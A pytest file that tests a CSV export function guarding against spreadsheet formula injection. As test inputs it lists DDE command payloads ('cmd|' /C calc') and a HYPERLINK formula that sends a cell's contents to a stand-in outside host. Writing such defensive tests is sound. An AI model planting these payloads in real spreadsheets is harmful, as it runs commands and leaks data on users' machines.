"""CSV for spreadsheets: formulas in texts are marked, everything else is as it was."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest

from trainer.data.spreadsheet import spreadsheet_csv

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://foreign.example?x="&A1,"Error")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "a;=1+1",
    "a\t=1+1",
    "a|=1+1",
    'a";=1+1',
    'a"=1+1',
    "a,=1+1",
    "a\r\n=1+1",
    "a\n\t@b",
    ";;=1+1;-1",
)
ORDINARY = ("SEQ_000007", "Cheek - pinch skin", "a=b", "x@y", "1-2", "", "'", "é + 1", "a, b; c")


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_as_a_formula(text, delimiter):
    """In whatever way a spreadsheet separates the cells, in the rows and in the first line."""
    table = pl.DataFrame({"n": [-1.5], text: [text], "m": [2]})
    found = csv.reader(io.StringIO(spreadsheet_csv(table), newline=""), delimiter=delimiter)
    cells = [cell.lstrip(' \t\r\n\x00\ufeff\u200b"') for row in found for cell in row]
    begins = [cell for cell in cells if cell.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))]
    assert [cell for cell in begins if not cell.startswith("-1.5")] == []


def test_ordinary_texts_and_numbers_are_written_unchanged():
    """Negative numbers too; the file is the one that polars writes."""
    table = pl.DataFrame(
        {"sequence_id": ORDINARY, "Cheek - pinch skin": [-0.5, *range(len(ORDINARY) - 1)]}
    )
    assert spreadsheet_csv(table) == table.write_csv()


def test_a_leading_tab_or_line_end_is_kept_behind_an_apostrophe():
    """A spreadsheet drops it, and would read the rest anew."""
    table = pl.DataFrame({"a": ["\tb", "\rb", "\nb"]})
    assert pl.read_csv(spreadsheet_csv(table).encode())["a"].to_list() == ["'\tb", "'\rb", "'\nb"]


def test_names_that_become_equal_stay_two_columns():
    """A header of =a and '=a, which differ in their apostrophe only."""
    assert spreadsheet_csv(pl.DataFrame({"=a": [1], "'=a": [2]})) == "'=a,'=a\n1,2\n"


def test_categories_are_texts():
    """Their text is what a spreadsheet reads."""
    table = pl.DataFrame({"a": pl.Series(["=1"], dtype=pl.Categorical)})
    assert spreadsheet_csv(table) == "a\n'=1\n"
